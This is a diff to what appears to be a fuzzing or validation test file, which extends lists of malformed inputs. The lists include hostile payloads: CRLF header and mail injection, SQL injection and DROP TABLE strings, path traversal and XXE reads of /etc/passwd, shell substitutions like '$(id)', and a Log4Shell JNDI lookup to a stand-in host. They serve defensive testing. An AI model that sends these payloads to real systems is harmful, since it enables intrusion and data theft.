@@ -35,6 +35,7 @@ HEADERS = [
     f"\"x\" <a@b.example>, c@{PROBE}", f"a@b.example,x@{PROBE}", f"a@b.example>\r\nRCPT TO:<x@{PROBE}>",
     f"=?utf-8?q?x=0D=0ABcc:_x@{PROBE}?=", f"x\r\nSet-Cookie: session=planted\r\n\r\n<script>{RUN}</script>",
     f"\"a\\\"\r\n b\"@{PROBE}", f"//{PROBE}/", f"https://{PROBE}/", f"/\\{PROBE}/",
+    "http://[", "//[x/a/office/b",
 ]  # fmt: skip
 
 FORMULAS = [
@@ -44,7 +45,7 @@ FORMULAS = [
 ]  # fmt: skip
 
 LONG = ["W" * 5_000, "9" * 50_000, "a " * 20_000, "\U0001f469\u200d" * 3_000, "<" * 20_000, "(" * 10_000]
-NUL = ["\x00", "a\x00b", f"<scr\x00ipt>{RUN}</scr\x00ipt>", "a@b.example\x00.png"]
+NUL = ["\x00", "a\x00b", "/a\x00b/office/c/", f"<scr\x00ipt>{RUN}</scr\x00ipt>", "a@b.example\x00.png"]
 TURNING = [
     "\u202egnp.exe",
     "\u2066a\u2069",
@@ -66,8 +67,9 @@ EMAILS = [
 ODD = [
     "\ufdfa" * 40, "{link}", "%(name)s", "\u1e9e" * 40,
     "\ufffe\U0010ffff", "\ue000", "\x07\x1b[31m", "\u0661\u0662\u0663", "1e400000", "-NaN", "Infinity", "1" * 4_500,
-    "9999-99-99", "0000-00-00", "9999-12-31", "2026-02-30", "-1", "0x10", "1_000", "1.2.3,4", '{"a": [1]}', "[]",
-    "null", "' OR 1=1 --", "'; DROP TABLE x; --", "%", "_", "\\", "../../../etc/passwd", "..\\..\\x", "$(id)", "`id`",
+    "9999-99-99", "0000-00-00", "9999-12-31", "0001-01-01", "2026-02-30", "-1", "0x10", "1_000", "1.2.3,4",
+    '{"a": [1]}', "[]", "null", "' OR 1=1 --", "'; DROP TABLE x; --", "%", "_", "\\",
+    "../../../etc/passwd", "..\\..\\x", "$(id)", "`id`",
     "| id", "${jndi:ldap://probe.invalid/x}", "*)(uid=*", " ", "\u00a0", "\n\n\n",
     "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
 ]  # fmt: skip
